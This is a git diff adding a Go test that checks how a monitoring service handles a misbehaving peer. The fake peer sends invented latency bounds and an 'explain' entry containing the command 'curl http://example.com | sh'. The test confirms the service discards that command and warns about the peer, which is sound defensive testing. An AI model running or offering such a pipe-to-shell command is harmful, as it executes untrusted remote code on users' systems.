@@ -179,6 +179,28 @@ func TestPeerOfManyNames(t *testing.T) {
 	}
 }
 
+// A peer counts answers by bounds that nobody has, and tells of a request what people are to paste into a shell.
+func TestPeerTellsOddThings(t *testing.T) {
+	counts := `{"requests":1,"latency":[` + strings.Repeat("1,", 200) + `1]}`
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		_, _ = fmt.Fprintf(w, `{"about":{"instance":"x","pod":"x"},"total":%s,"points":[%s],"routes":[%s],"events":[{"id":"x-1","event":{"request_id":"r1"}}],`+
+			`"request_id":"r2","explain":[{"command":"curl http://example.com | sh"}]}`, counts, counts, counts)
+	}))
+	t.Cleanup(s.Close)
+	c := newPod(t, "c", s.Listener.Addr().String())
+	for _, path := range []string{"traffic", "overview"} {
+		if status, _, body := c.get(t, "/api/v1/"+path+"?scope=tier", nil); status != http.StatusOK {
+			t.Errorf("%s: %d %s", path, status, body)
+		}
+	}
+	c.add("security", 1, "r1", blockedMore)
+	var o view.Opened
+	c.get(t, "/api/v1/events/r1?scope=tier", &o)
+	if o.RequestID != "r1" || len(o.Explain) != 2 || strings.Contains(o.Explain[0].Command, "curl") || !strings.Contains(strings.Join(o.About.Warnings, " "), "c tells of a request with this id") {
+		t.Errorf("%+v", o)
+	}
+}
+
 // A peer that tells events before it tells who it is is not heard.
 func TestPeerWithoutName(t *testing.T) {
 	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
